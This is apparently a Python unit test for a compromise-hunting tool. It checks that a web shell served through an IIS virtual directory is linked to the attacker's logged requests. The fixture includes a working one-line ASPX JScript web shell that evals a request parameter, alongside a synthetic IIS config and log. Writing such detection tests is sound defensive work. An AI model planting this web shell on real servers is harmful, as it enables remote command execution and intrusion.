"""A shell in a folder only a virtual directory serves is still joined to its requests."""

from __future__ import annotations

from pathlib import Path

from exhunt.hunt.engine import hunt
from exhunt.model import Verdict

CONFIG = """<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.applicationHost><sites>
<site name="Default Web Site" id="1"><application path="/">
<virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" /></application>
<application path="/com"><virtualDirectory path="/" physicalPath="C:\\ProgramData\\COM1\\" />
</application></site></sites></system.applicationHost></configuration>
"""
IIS = """#Software: Microsoft Internet Information Services 10.0
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken
2021-08-20 10:00:00 10.0.0.5 POST /com/x.aspx - 443 - 198.51.100.23 Mozilla/5.0 200 0 0 5
"""


def test_shell_served_by_a_virtual_directory_is_reentered(tmp_path: Path) -> None:
    drive = tmp_path / "C"
    config = drive / "Windows/System32/inetsrv/config/applicationHost.config"
    config.parent.mkdir(parents=True)
    config.write_text(CONFIG)
    shell = drive / "ProgramData/COM1/x.aspx"
    shell.parent.mkdir(parents=True)
    shell.write_text('<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>')
    logs = drive / "inetpub/logs/LogFiles/W3SVC1"
    logs.mkdir(parents=True)
    (logs / "u_ex210820.log").write_text(IIS)
    (drive / "inetpub/wwwroot").mkdir(parents=True)
    report = hunt(str(tmp_path), workers=1)
    assert report.verdict is Verdict.REENTERED
    used = [f for f in report.findings if f.check == "webshell.reentry"]
    assert used and used[0].client_ip == "198.51.100.23"
